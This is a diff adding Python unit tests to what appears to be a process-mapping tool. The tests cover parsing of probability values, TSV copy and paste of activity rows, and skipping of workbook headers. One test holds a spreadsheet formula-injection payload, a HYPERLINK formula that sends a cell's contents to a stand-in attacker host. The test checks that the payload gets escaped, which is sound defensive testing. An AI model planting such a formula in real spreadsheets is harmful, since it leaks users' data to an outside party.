@@ -122,3 +122,44 @@ def test_time_sources_are_read_in_either_language() -> None:
     assert parse_choice(TimeSource, "Interview") is TimeSource.INTERVIEW
     assert parse_choice(TimeSource, "est") is TimeSource.ESTIMATE
     assert parse_choice(TimeSource, "", optional=True) is None
+
+
+def test_a_probability_of_1_is_refused_with_the_two_ways_to_write_it() -> None:
+    """"2" is 2 % and "0.5" is a half, so a bare "1" could be every case or 1 %."""
+    for ambiguous in ("1", "1,0", " 1.00 "):
+        with pytest.raises(ValueError) as caught:
+            parse_probability(ambiguous)
+        assert "100 %" in str(caught.value) and "0,01" in str(caught.value)
+    assert parse_probability("100 %") == 1 and parse_probability("100") == 1
+    assert parse_probability("1 %") == Decimal("0.01") and parse_probability("0,01") == \
+        Decimal("0.01")
+    assert parse_probability("2") == Decimal("0.02")
+    with pytest.raises(ValueError, match="decimals"):
+        parse_probability("1e-30")
+
+
+def test_copied_rows_are_escaped_like_the_cells_of_our_workbooks(entity: s.Entity) -> None:
+    """A description that a spreadsheet would run (=HYPERLINK…) is copied as text, with
+    the apostrophe Excel reads as "this is text", and pastes back as it was."""
+    risky = s.Activity(description='=HYPERLINK("http://evil.example/?"&A1,"Ver")',
+                       unit="TD", type=ActivityType.OPERACION, value=ValueClass.VA,
+                       note="+51 976 000 000", time_by="@jefe")
+    text = rows_to_tsv([risky])
+    cells = text.rstrip("\n").split("\t")
+    assert cells[0] == "'" + risky.description
+    assert cells[11] == "'+51 976 000 000" and cells[14] == "'@jefe"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    (back,) = tsv_to_rows(text, entity)
+    assert (back.description, back.note, back.time_by) == (risky.description, risky.note,
+                                                          risky.time_by)
+
+
+def test_a_pasted_workbook_header_is_skipped_and_names_the_columns(entity: s.Entity) -> None:
+    """Rows copied with the SUT template's header (in its own order) paste as steps."""
+    text = ("Actividad\tUnidad_Organica\tDuracion\tTipo_Actividad\tTipo_Valor\n"
+            "Recibir el expediente\tTD\t10\tRevision\tControl\n")
+    (step,) = tsv_to_rows(text, entity)
+    assert (step.description, step.unit, step.minutes, step.type, step.value) == (
+        "Recibir el expediente", "TD", 10, ActivityType.REVISION, ValueClass.CONTROL)
+    ours = "Activity\tUnit\tType\tValue\tMinutes\nSellar\tTD\tOperation\tVA\t2\n"
+    assert [a.description for a in tsv_to_rows(ours, entity)] == ["Sellar"]
